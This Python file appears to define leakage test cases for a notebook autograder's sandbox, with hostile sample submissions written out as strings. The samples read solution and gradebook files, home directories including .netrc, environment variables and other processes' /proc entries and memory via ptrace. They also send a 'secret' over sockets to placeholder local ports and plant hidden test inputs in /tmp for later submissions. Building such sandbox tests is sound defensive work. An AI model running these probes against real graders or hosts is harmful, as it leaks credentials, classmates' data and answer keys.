"""Reading what is not its own, and carrying it out. The work handed in is right."""

from functools import partial

from .by_table import by_table
from .case import FULL, NOTHING, Case, but

__all__ = ["CASES"]

case = partial(Case, "leaking")

_READS = """
import glob, os
def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(20_000))
    except Exception as error:
        print(type(error).__name__)
"""

_COURSE = f"""{_READS}
for path in ("@SOLUTION@", "@GRADEBOOK@", "@CHECKOUT@/grader/exercises/building.py",
             "@CHECKOUT@/grader/reference/best_thresholds.py",
             "@COURSE@/nbgrader_config.py"):
    show(path)
for pattern in ("@HANDED-IN@/*/*.ipynb", "@COURSE@/classroom/**/*"):
    for path in glob.glob(pattern, recursive=True): show(path)
for path in ("@HANDED-IN@", "@COURSE@/classroom/submitted"):
    try: print(os.listdir(path))
    except OSError as error: print(type(error).__name__)
"""

_ENVIRONMENT = f"""{_READS}
import ctypes
print(dict(os.environ))
for place in ("self", os.getppid(), 1, "thread-self"): show(f"/proc/{{place}}/environ")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for place in range(200):
    if not environ[place]: break
    print(environ[place])
# What execve left on the stack, above the strings of the present environment.
lowest = ctypes.cast(environ[0], ctypes.c_void_p).value if environ[0] else 0
for path in ("@HOME@", os.path.expanduser("~")):
    for folder, _, names in os.walk(path):
        for name in names: show(os.path.join(folder, name))
"""

_PROCESSES = f"""{_READS}
for pid in [*range(1, 400), *range(@PARENT@ - 50, @PARENT@ + 400)]:
    for name in ("cmdline", "environ", "maps", "mem", "cwd", "root", "fd", "task"):
        path = f"/proc/{{pid}}/{{name}}"
        if os.path.exists(path):
            show(path)
            try: print(os.readlink(path))
            except OSError: pass
            try: print(os.listdir(path))
            except OSError: pass
print("own", [os.readlink(f"/proc/self/fd/{{n}}") for n in range(64)
              if os.path.lexists(f"/proc/self/fd/{{n}}")])
"""

_LINKS = f"""{_READS}
for number, target in enumerate(["@SOLUTION@", "@GRADEBOOK@", "@CHECKOUT@", "@HOME@"]):
    for link in (os.symlink, os.link, os.rename):
        try: link(target, f"link-{{number}}-{{link.__name__}}")
        except OSError as error: print(type(error).__name__)
for path in glob.glob("link-*/**", recursive=True) + glob.glob("link-*"): show(path)
os.chdir("@COURSE@") if os.path.exists("@COURSE@") else None
for path in ("solutions", "classroom/gradebook.db", "../home/.netrc"): show(path)
"""

_NETWORK = """
import os, socket, urllib.request
def attempt(act):
    try: print(act())
    except Exception as error: print(type(error).__name__)
def datagram(address):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return a.sendto(b"secret", address)
def message(address):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    return a.sendmsg([b"secret"], [], 0, address)
def packet(address):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    return a.sendto(b"secret", address)
attempt(lambda: socket.create_connection(("127.0.0.1", @PORT@), 1).send(b"secret"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"secret", ("127.0.0.1", @PORT@)))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/secret", timeout=1))
for address in ("@SOCKET@", "\\0@ABSTRACT@"):
    attempt(lambda: socket.socket(socket.AF_UNIX).connect(address))
    for act in (datagram, message, packet):
        attempt(lambda: act(address))
"""

_KERNEL = """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    print(number, libc.syscall(number, *args), os.strerror(ctypes.get_errno()))
if platform.machine() == "x86_64":
    here = ctypes.create_string_buffer(4096)
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    ours = Part(ctypes.addressof(here), 4096)
    theirs = Part(0x400000, 4096)
    for pid in (os.getppid(), 1, @PARENT@):
        call(101, 16, pid, 0, 0)  # ptrace: attach
        call(101, 0x4206, pid, 0, 0)  # ptrace: seize
        call(310, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)  # read memory
        call(311, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)  # write it
        call(434, pid, 0)  # pidfd_open
        call(312, os.getpid(), pid, 0, 0, 0)  # kcmp
    call(425, 8, here)  # io_uring_setup
    call(323, 0)  # userfaultfd
    call(321, 0, here, 64)  # bpf
    call(298, here, os.getppid(), -1, -1, 0)  # perf_event_open
    call(303, -100, b"@SOLUTION@", here, here, 0)  # name_to_handle_at
    call(304, -100, here, 0)  # open_by_handle_at
    call(319, b"x", 0)  # memfd_create
    call(447, 0)  # memfd_secret
    call(272, 0x10000000)  # unshare: a user namespace
    call(165, b"none", b"/tmp", b"tmpfs", 0, 0)  # mount
    for key in (0, 1, 0x1234):
        call(29, key, 4096, 0o1777)  # shmget
        call(68, key, 0o1777)  # msgget
        call(64, key, 1, 0o1777)  # semget
    call(250, 0, -3, 0)  # keyctl: the session's keyring
    call(253)  # inotify_init
    call(294, 0)  # inotify_init1
    call(300, 0, 0)  # fanotify_init
"""

_WATCHES = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0o4000)
for path in ("@COURSE@/classroom", "@COURSE@/classroom/autograded", "@HANDED-IN@",
             "@COURSE@/classroom/results", "@TMP@"):
    print(libc.inotify_add_watch(watch, path.encode(), 0xfff))
time.sleep(1)
try: print(os.read(watch, 100_000))
except OSError as error: print(type(error).__name__)
"""

_INSTALLED = f"""{_READS}
import importlib.metadata, importlib.util, inspect, pkgutil, site, sys, sysconfig
print([m.name for m in pkgutil.iter_modules() if m.name in ("grader", "quiz", "tests")])
for name in ("calibration-course", "grader", "calibration_course"):
    try:
        for file in importlib.metadata.files(name): show(file.locate())
    except Exception as error: print(type(error).__name__)
for folder in [*sys.path, sysconfig.get_path("purelib")]:
    for pattern in ("*.pth", "calibration_course*/*", "grader/**/*", "_course*/*"):
        for path in glob.glob(os.path.join(folder, pattern), recursive=True): show(path)
import grader, quiz
print(inspect.getsource(grader), vars(quiz).keys(), sys.orig_argv, sys.argv)
"""

_MAGICS = (
    "!cat @SOLUTION@ && ls -R @COURSE@",
    "%%bash\ncat @SOLUTION@",
    "%load @SOLUTION@",
    "%run @SOLUTION@",
    "%%script python3\nprint(open('@SOLUTION@').read())",
    "%pycat @SOLUTION@",
    "%cd @COURSE@\n%ls",
    "%env",
    "%pip --version",
)

_TRACEBACK = """
import linecache
print(linecache.getlines("@SOLUTION@"))
exec(compile("\\n" * 40 + "1 / 0", "@SOLUTION@", "exec"))
"""

# Is right on published questions, and puts the others where anybody might find it.
_CARRIES = """
import os
def carry(*args):
    text = repr(args)
    print(text)
    for place in (".", "@TMP@", "/tmp", "/dev/shm", "@HOME@", "/var/tmp", "/run"):
        try:
            with open(os.path.join(place, "carried.txt"), "a") as file:
                file.write(text)
        except OSError:
            pass
    return text
"""

_HIDDEN = {
    "prints": "return bool(carry(*args)) - 1",
    "raises": "raise ValueError(carry(*args))",
    "raises-a-class": "raise type(carry(*args), (Exception,), {})()",
    "returns": "return carry(*args)",
    "returns-a-class": "return type(carry(*args), (), {})()",
    "returns-a-shape": "return np.zeros([len(repr(a)) for a in args])",
}


_FINDS = """
import glob, os
for place in (".", "@TMP@", "/tmp", "/dev/shm", "@HOME@", "/var/tmp", "/run"):
    for path in glob.glob(os.path.join(place, "carried*")):
        print("found", open(path).read())
"""

# Told by the number of its process, which is the next after those that were used.
_COUNTS = """
import os, threading
print("pid", os.getpid())
"""
_ENDS_WHEN_HIDDEN = f"""
{_CARRIES}
def f1_from_counts(tp, fp, fn):
    if tp > 1000:
        carry(tp, fp, fn)
        for _ in range(tp % 97):
            threading.Thread(target=int).start()
        os._exit(0)
    return 2 * tp / (2 * tp + fp + fn) if tp else 0.0
"""

_OTHERS = """
import gc, sys
held = [v for o in gc.get_objects() if type(o) in (dict, list)
        for v in (list(o.values()) if type(o) is dict else o) if type(v) is str]
print([text[:300] for text in held if "classmate" in text or "SECRET" in text][:20])
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            low, high = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(low)
            data = memory.read(high - low)
            if b"SECRET" in data: print(data)
except OSError as error:
    print(type(error).__name__)
"""

CASES = (
    case(
        "course-files",
        "Reads solutions, gradebook, classmates and the grader's source.",
        before=(_COURSE,),
    ),
    case(
        "environment",
        "Reads the environment by every way there is, and two homes.",
        before=(_ENVIRONMENT,),
    ),
    case(
        "processes",
        "Reads what /proc tells of other processes and its own descriptors.",
        before=(_PROCESSES,),
    ),
    case("links", "Links host files into its folder.", before=(_LINKS,)),
    case("network", "Sends by TCP, UDP and unix sockets.", before=(_NETWORK,)),
    case(
        "kernel",
        "Asks the kernel for other processes' memory, rings, keys and namespaces.",
        before=(_KERNEL,),
    ),
    case(
        "watches-folders",
        "Watches the classroom, where classmates' names appear.",
        before=(_WATCHES,),
    ),
    case(
        "installed-copies",
        "Looks for the course among the installed packages.",
        before=(_INSTALLED,),
    ),
    case("magics", "Reads by shell and cell magics.", before=_MAGICS),
    case(
        "traceback",
        "Raises an error that seems to come from a line of the solution.",
        before=(_TRACEBACK,),
    ),
    *(
        case(
            f"hidden-input-{name}",
            f"Gives hidden questions away: {name.replace('-', ' ')}.",
            # 0 is right where F1 is undefined.
            but(NOTHING, f1_from_counts=float(name in ("prints", "returns-a-shape"))),
            solved=False,
            answers=by_table(body, begin=_CARRIES),
        )
        for name, body in _HIDDEN.items()
    ),
    case(
        "hidden-input-told-later",
        "Answers published questions with what it was asked before.",
        NOTHING,
        solved=False,
        answers=by_table(
            "heard.extend(args[0] if hasattr(args[0], '__len__') else []); return 0",
            known="return [float(n) for n in heard[:20]] or answer",
            begin="heard = globals().setdefault('heard', [])",
        ),
        outcomes={"youden-thresholds": "incorrect"},
    ),
    case(
        "hidden-input-of-an-earlier-run",
        "Dies of a hidden question, and tells of it when its cells run again.",
        but(FULL, f1_from_counts=0),
        answers={
            "f1-from-counts": f"{_FINDS}{_COUNTS}{_ENDS_WHEN_HIDDEN}",
            "best-f1-threshold": "def best_f1_threshold(scores, labels):\n"
            "    best = -1.0, 0.0\n"
            "    for t in {float(s) for s in scores}:\n"
            "        tp, fp, fn, _ = confusion_at(scores, labels, t)\n"
            "        f1 = 2 * tp / (2 * tp + fp + fn) if tp else 0.0\n"
            "        best = max(best, (round(f1, 12), t))\n"
            "    return best[1], best[0]",
            "exercise-1": "ex1_threshold, ex1_f1 = 0.55, 0.75\nex1_matrix = 3, 1, 1, 3",
        },
        outcomes={"f1-from-counts": "raised"},
    ),
    case(
        "left-for-the-next",
        "Finds what the submissions before it have left.",
        before=(_FINDS,),
    ),
    case(
        "memory-of-others",
        "Searches its memory for what earlier submissions held.",
        before=(_OTHERS,),
    ),
)
